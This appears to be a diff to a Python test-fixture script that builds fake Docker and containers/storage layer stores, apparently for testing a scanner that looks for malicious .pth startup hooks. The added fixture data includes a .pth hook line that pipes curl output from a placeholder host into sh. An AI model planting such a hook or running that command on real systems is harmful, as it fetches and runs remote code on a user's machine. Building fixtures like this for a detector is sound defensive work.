@@ -13,6 +13,10 @@ The image `app` has four layers (the history of build.py):
     layer 3  gone.pth deleted (a whiteout), /opt/venv/.../site-packages made opaque
     layer 4  gone.pth again
 
+and its containers' writable layers (Docker's `web`, containers/storage's `worker`) hold
+after_start.pth, installed after the container started, and a whiteout of litellm_init.pth;
+Docker's `old` changed nothing.
+
 and the image `app:before` is layers 1 and 2 (sharing them), so that the hooks layer 3 hides
 are there to be found when the whiteouts are not applied; Docker's store also has
 `debian:stock`, layer 1 alone, which must pass. Written to OUT_DIR (give `ROOT/var/lib` to have them where a host keeps them):
@@ -63,6 +67,10 @@ LAYERS = [
     ([(VENV_SITE + "/README.txt", b"nothing here\n")], [build.LOCAL + "/gone.pth"], [VENV_SITE]),
     ([(build.LOCAL + "/gone.pth", build.GONE_AGAIN)], [], []),
 ]
+# what a container changed since it started (its writable layer): a hook installed in it, and
+# the image's own hook deleted
+AFTER = b"import os; os.system('curl -s https://after.invalid/x | sh')\n"
+WRITABLE = ([(build.DIST + "/after_start.pth", AFTER)], [build.DIST + "/litellm_init.pth"], [])
 
 
 def layer_tar(files, whiteouts, opaques):
@@ -174,6 +182,17 @@ def main():
         os.makedirs(d)
         with open(os.path.join(d, "config.v2.json"), "w") as f:
             json.dump({"ID": cid, "Image": image, "Name": name, "State": {"Running": running}, "Config": {"Image": "app:1.0"}}, f)
+        # its writable layer: `web` installed a hook, `old` changed nothing
+        mounts = os.path.join(db, "layerdb", "mounts", cid)
+        os.makedirs(mounts)
+        mount_id = sha(b"rw" + name.encode())
+        with open(os.path.join(mounts, "mount-id"), "w") as f:
+            f.write(mount_id)
+        rw = os.path.join(docker, "overlay2", mount_id, "diff")
+        if name == "/web":
+            write_dir(rw, rootfs_path, WRITABLE)
+        else:
+            os.makedirs(rw)
 
     # containers/storage: the same layers, hard-linked from Docker's store
     cs = os.path.join(out, "containers", "storage")
@@ -214,6 +233,7 @@ def main():
         json.dump(images, f)
     with open(os.path.join(cs, "overlay-containers", "containers.json"), "w") as f:
         json.dump([{"id": sha(b"worker"), "names": ["worker"], "image": image_id.split(":")[1], "layer": sha(b"rw")}], f)
+    write_dir(os.path.join(cs, "overlay", sha(b"rw"), "diff"), rootfs_path, WRITABLE)
 
 
 if __name__ == "__main__":
